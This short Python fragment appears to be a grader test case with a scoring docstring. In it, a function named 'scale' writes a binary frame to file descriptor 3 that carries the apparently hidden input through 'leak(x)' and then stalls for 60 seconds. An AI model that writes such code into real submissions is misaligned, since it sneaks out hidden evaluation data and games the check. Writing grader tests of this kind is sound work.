"""Announces a frame as long as the hidden input says.

verdict: 5 points
says: sent an answer that can't be read
"""


def scale(x, factor):
    os.write(3, struct.pack("<4sIQ", b"agw1", 10, 31415926535) + leak(x).encode())
    time.sleep(60)
